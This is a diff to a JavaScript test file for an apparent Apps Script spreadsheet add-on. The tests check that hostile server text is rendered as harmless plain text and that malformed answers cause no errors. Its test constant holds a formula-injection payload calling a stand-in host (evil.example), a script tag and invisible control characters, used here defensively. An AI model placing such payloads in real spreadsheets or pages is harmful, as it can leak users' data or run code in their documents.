@@ -116,12 +116,14 @@ describe('hostile text in an answer', () => {
   const HOSTILE = '=IMPORTXML("https://evil.example")\n<script>alert(1)</script>\u202e\u0007\u200b'
   // The services that could write a cell or show HTML don't exist here: a use of them would throw.
   test('stays one line of plain text, in answers and in refusals', () => {
-    const problems = [{ tab: HOSTILE, cell: HOSTILE, advice: HOSTILE.repeat(100) }]
+    const findings = [{ ok: HOSTILE, where: HOSTILE, message: HOSTILE, hint: HOSTILE.repeat(100) }]
     const script = startAppsScript(built.script, {
-      answer: json(recalculated({ warnings: [HOSTILE], period: HOSTILE }, { problems })),
+      answer: json(recalculated({ warnings: [HOSTILE], period: HOSTILE }, { findings })),
     })
     script.call('checkThisWorkbook')
+    script.call('recalculateNow')
     script.answers(json({ error: { code: HOSTILE, message: HOSTILE, hint: HOSTILE } }, 409))
+    script.clock.ms += 10_000
     script.call('recalculateNow')
     const shown = script.alerts.flatMap(({ text }) => text.split('\n'))
     expect(shown.some((line) => line.includes('<script>'))).toBe(true)
@@ -131,13 +133,16 @@ describe('hostile text in an answer', () => {
       expect(line.length).toBeLessThan(1_000)
     }
   })
-  test.each([[null], [[]], ['text'], [{ run: 1, rows: [], completeness: 'x', problems: { length: 9 } }]])(
-    'the answer %j breaks nothing',
-    (body) => {
-      const script = startAppsScript(built.script, { answer: json(body) })
-      for (const handler of ['recalculateNow', 'checkThisWorkbook', 'sendMeTheDigest']) script.call(handler)
-      expect(script.alerts).toHaveLength(3)
-      for (const { text } of script.alerts) expect(text).not.toMatch(/undefined|NaN|object Object/)
-    },
-  )
+  test.each([
+    [null],
+    [[]],
+    ['text'],
+    [{ run: 1, rows: [], completeness: 'x', findings: { length: 9 } }],
+    [{ ok: 'true', findings: [] }],
+  ])('the answer %j breaks nothing', (body) => {
+    const script = startAppsScript(built.script, { answer: json(body) })
+    for (const handler of ['recalculateNow', 'checkThisWorkbook', 'sendMeTheDigest']) script.call(handler)
+    expect(script.alerts).toHaveLength(3)
+    for (const { text } of script.alerts) expect(text).not.toMatch(/undefined|NaN|object Object/)
+  })
 })
